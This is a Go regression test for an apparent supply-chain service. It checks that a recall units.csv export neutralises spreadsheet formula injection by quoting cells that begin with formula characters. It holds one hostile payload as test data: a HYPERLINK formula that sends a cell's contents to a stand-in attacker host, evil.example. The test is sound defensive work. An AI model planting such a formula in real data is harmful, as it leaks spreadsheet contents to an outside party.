package api_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/serialine/serialine/central/auth"
	"github.com/serialine/serialine/central/store/storetest"
	"github.com/serialine/serialine/central/store/supply"
	"github.com/serialine/serialine/internal/testkit"
)

// TestRecallCSVFormulaInjection is issue 17's attack 9 on the recall
// CSV: a planner names a customer "=HYPERLINK(...)"; the customer's units
// are recalled and QA opens units.csv in a spreadsheet. Before, the cell
// was written as it came and ran as a formula; now it starts with a
// single quote and reads as text.
func TestRecallCSVFormulaInjection(t *testing.T) {
	e := newEnv(t, storetest.SQLiteDSN(t))
	f := e.fixture(t)
	const evil = `=HYPERLINK("https://evil.example/?leak="&A2,"open")`
	resp := e.as(t, auth.RolePlanner, req{method: "PUT", path: "/api/v1/partners/" + f.partnerGLN, body: testkit.MustJSON(t, map[string]any{"name": evil})})
	require.Equal(t, http.StatusOK, resp.status, "%s", resp.body)
	_, units := e.shipment(t, f, nil, true)
	rc, err := e.s.CreateRecall(e.ctx, supply.RecallRequest{GTIN: gtinRand, Serials: units, Reason: "complaint"})
	require.NoError(t, err)

	resp = e.as(t, auth.RoleQA, req{method: "GET", path: "/api/v1/recalls/" + rc.ID + "/units.csv"})
	require.Equal(t, http.StatusOK, resp.status, "%s", resp.body)
	rows, err := csv.NewReader(strings.NewReader(string(resp.body))).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 1+len(units))
	name := -1
	for i, h := range rows[0] {
		if h == "customer_name" {
			name = i
		}
	}
	require.GreaterOrEqual(t, name, 0, "header %v", rows[0])
	for _, r := range rows[1:] {
		require.Equal(t, "'"+evil, r[name], "the formula is escaped, the name kept")
		for i, c := range r {
			require.False(t, c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])), "column %s starts a formula: %q", rows[0][i], c)
		}
	}
}
